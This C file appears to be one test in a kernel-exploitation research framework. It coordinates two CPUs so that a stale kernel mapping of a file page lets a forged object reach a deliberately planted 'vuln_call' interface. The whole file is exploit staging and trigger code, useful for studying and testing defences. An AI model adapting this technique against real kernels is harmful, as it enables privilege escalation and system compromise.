/*
 * A page of a file is allocated, and flushed for that, long before the kernel first maps and unmaps
 * it. Another processor has the kernel read it in between, and remembers it.
 */
#include "attack.h"

enum { CPU_OF_OWNER, CPU_OF_VICTIM, NR_CPUS };
enum { STAGE_WARM = 1, STAGE_WARMED, STAGE_UNMAPPED, STAGE_CALLED };

static attack_stage stage;
static uint64_t synonym;

static void victim(void *unused)
{
	(void)unused;
	attack_await(&stage, STAGE_WARM, AWAIT_SPIN);
	attack_warm(synonym);
	attack_tell(&stage, STAGE_WARMED);
	attack_await(&stage, STAGE_UNMAPPED, AWAIT_SPIN);
	attack_check("vuln_call", bw_vuln_call(synonym));
	attack_tell(&stage, STAGE_CALLED);
}

int main(void)
{
	struct bw_leak leak;
	void *page = attack_file_page();

	attack_begin(&leak, NR_CPUS, CPU_OF_OWNER);
	synonym = attack_synonym(&leak, page);
	payload_object(page, synonym, &leak);
	attack_thread(CPU_OF_VICTIM, victim, NULL);
	attack_say("forged object in frame 0x%lx, which holds a page of this program",
		   attack_pfn(page));

	attack_tell(&stage, STAGE_WARM);
	attack_await(&stage, STAGE_WARMED, AWAIT_SPIN);
	attack_say("CPU %d has read it at 0x%lx, and spins in user mode", CPU_OF_VICTIM, synonym);

	attack_check("vuln_kmap_read", bw_vuln_kmap_read(attack_pfn(page), 0));
	attack_say("CPU %d has mapped and unmapped it", CPU_OF_OWNER);
	attack_tell(&stage, STAGE_UNMAPPED);
	attack_await(&stage, STAGE_CALLED, AWAIT_SPIN);
	return attack_finish();
}
